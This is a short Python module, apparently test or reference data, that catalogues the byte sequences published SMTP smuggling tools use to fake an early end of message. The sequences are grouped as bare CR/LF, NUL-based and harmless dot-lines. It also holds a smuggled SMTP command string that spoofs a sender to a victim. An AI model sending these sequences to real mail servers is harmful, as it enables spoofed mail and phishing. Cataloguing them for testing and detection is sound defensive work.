"""The octets by which the published tools try to end a message before its end, and what is right about each.

Sources: SEC Consult, "SMTP Smuggling" (2023-12); The-Login/SMTP-Smuggling-Tools, inbound and outbound sequences;
hannob/smtpsmug, all of its tests; suuhm/smtp_smuggling_checker; CVE-2023-51764, -51765, -51766, CVE-2024-27305.
None of them is CR LF "." CR LF, the one end of data there is (RFC 5321 4.1.1.4).
"""

BARE = [  # with a CR or an LF that stands alone: which of two servers is right about the end cannot be known
    b"\n.\n",
    b"\n.\r",
    b"\n.\r\n",
    b"\n\n.\r\n",
    b"\r.\n",
    b"\r.\r",
    b"\r.\r\n",
    b"\r\n.\n",
    b"\r\n.\r",
    b"\r\n.\r\r\n",
    b"\r\r\n.\r\n\r",
    b"\r\r\n.\r\r\n",
    b"\r\n\x00.\r",
    b"\r\n\x00.\n",
    b"\r\n.\r\x00\n",
    b"\r\n.\n\r\n",
    b"\n\r.\n\r",
]
NUL = [  # with a NUL, which some servers drop before they look for the end
    b"\r\n\x00.\r\n",
    b"\r\n.\x00\r\n",
]
HARMLESS = [  # lines that begin with a dot and are content
    b"\r\n..\r\n",
    b"\r\n.x\r\n",
    b"\r\n. \r\n",
    b"\r\n.\t\r\n",
    b"\r\n \r\n .\r\n",
    b"\r\n.\x0b\r\n",
    b"\r\n.\xc2\x85\r\n",
    b"\r\n.\xe2\x80\xa8\r\n",
]
SMUGGLED = b"MAIL FROM:<admin@b.test>\r\nRCPT TO:<victim@d.test>\r\nDATA\r\nSubject: smuggled\r\n"
